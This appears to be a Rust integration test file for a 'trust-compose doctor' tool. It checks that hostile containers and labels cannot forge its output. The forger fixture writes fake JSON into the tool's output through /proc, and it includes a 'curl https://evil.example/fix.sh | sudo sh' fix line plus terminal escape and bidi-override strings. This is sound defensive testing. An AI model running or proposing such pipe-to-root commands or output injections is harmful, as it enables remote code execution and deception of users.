//! `trust-compose doctor` in a project whose containers and images attack the user who runs it.

use crate::engine::{BOOKWORM, Outcome, docker, unique};
use crate::project::Project;
use crate::site::{Site, site, wait_until};
use crate::stack::programs;

/// An escape sequence that renames a terminal's window; it must not be printed.
const ESCAPE: &str = "\x1b]0;owned\x07";

/// A service that writes forged answers into the output of a trust-doctor in its probe container. Its address
/// never answers, so that trust-doctor runs long enough.
const FORGER: &str = r#"
import json, os, socket, sys
silent = socket.create_server(("127.0.0.1", 8443), backlog=64)
escape = "\x1b]0;owned\x07"
finding = {"id": "bundle", "sign": "error", "thing": "forged" + escape, "cause": "forged\nok forged",
           "fix": "curl https://evil.example/fix.sh | sudo sh"}
answer = json.dumps({"format": 1, "findings": [finding]})
print("at work", flush=True)
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if "trust-doctor" not in open(f"/proc/{pid}/comm").read():
                continue
            for descriptor in ("fd/1", "fd/2"):
                try:
                    with open(f"/proc/{pid}/{descriptor}", "w") as output:
                        output.write(answer)
                        print("forged", flush=True)
                except OSError:
                    pass
            if sys.argv[1] == "end":
                os.kill(int(pid), 9)
        except OSError:
            pass
"#;

/// Returns a project in which that service runs.
fn project_with_forger(site: &std::sync::Arc<Site>, how: &str) -> Project {
    let more = format!(
        "command: [python3, -u, -c, {FORGER:?}, {how}]\nuser: '1000'\nread_only: true\ncap_drop: [ALL]\n\
         security_opt: [no-new-privileges]\nenvironment: {{API: 'https://127.0.0.1:8443'}}"
    );
    let project = Project::new(site).service("agent", &site.image(BOOKWORM), &more);
    project.up();
    let id = project.ids()["agent"].clone();
    wait_until("the service runs", || docker(["logs", &id]).stdout.contains("at work"));
    project
}

#[track_caller]
fn doctor(project: &Project) -> Outcome {
    let image = programs();
    project.types(&format!("trust-compose doctor agent --timeout 3 --image {image}"))
}

#[track_caller]
fn is_harmless(outcome: &Outcome) {
    for words in ["\x1b", "\x07", "forged", "evil.example"] {
        let said = [&outcome.stdout, &outcome.stderr];
        assert!(said.iter().all(|text| !text.contains(words)), "{words:?}: {outcome}");
    }
}

#[test]
fn a_container_cannot_forge_the_doctors_answer() {
    let site = site();
    let outcome = doctor(&project_with_forger(&site, "write"));
    is_harmless(&outcome);
    outcome.exits(1).prints("https://127.0.0.1:8443: ");

    let outcome = doctor(&project_with_forger(&site, "end"));
    is_harmless(&outcome);
    outcome.exits(2).prints("it cannot be inspected: /trust-doctor was killed by signal 9");
}

/// A container with Compose's labels that Compose did not create.
#[test]
fn labels_of_an_image_are_shown_as_text() {
    let site = site();
    let project = Project::new(&site).service("agent", &site.image(BOOKWORM), "");
    project.up();
    let name = unique();
    let label = |name: &str, value: &str| format!("--label=com.docker.compose.{name}={value}");
    let words = [
        &label("project", &project.name),
        &label("service", &format!("{ESCAPE}\u{202e}tnega")),
        &label("container-number", "1"),
    ];
    let run = ["run", "--detach", "--rm", "--stop-signal", "KILL", "--name", &name];
    let command = [&site.image(BOOKWORM), "sleep", "infinity"];
    docker(run.into_iter().chain(words.map(String::as_str)).chain(command.map(|it| it))).exits(0);
    for options in ["", "--json"] {
        let outcome =
            project.types(&format!("trust-compose doctor {options} --image {}", programs()));
        is_harmless(&outcome);
        assert!(!outcome.stdout.contains('\u{202e}'), "{outcome}");
        outcome.prints(if options.is_empty() {
            r"\u{1b}]0;owned\u{7}\u{202e}tnega"
        } else {
            r"\u001b]0;"
        });
    }
    docker(["rm", "--force", &name]);
}

/// Compose's errors quote the file.
#[test]
fn words_of_a_compose_file_are_shown_as_text() {
    let project = Project::new(&site());
    let text =
        "services:\n  agent:\n    image: lab/agent\n\"foo\u{202e}oof\u{2066}\\e]0;owned\\a\": 1\n";
    project.folder.write("docker-compose.yml", text);
    for task in ["setup --custom-ca ca.crt", "doctor", "doctor --files-only --json"] {
        project.folder.write("ca.crt", std::fs::read(crate::site::PRIVATE.ca()).unwrap());
        let outcome = project.types(&format!("trust-compose {task}"));
        for c in ['\u{202e}', '\u{2066}', '\x1b', '\x07'] {
            assert!(!outcome.stdout.contains(c) && !outcome.stderr.contains(c), "{c:?}: {outcome}");
        }
    }
}
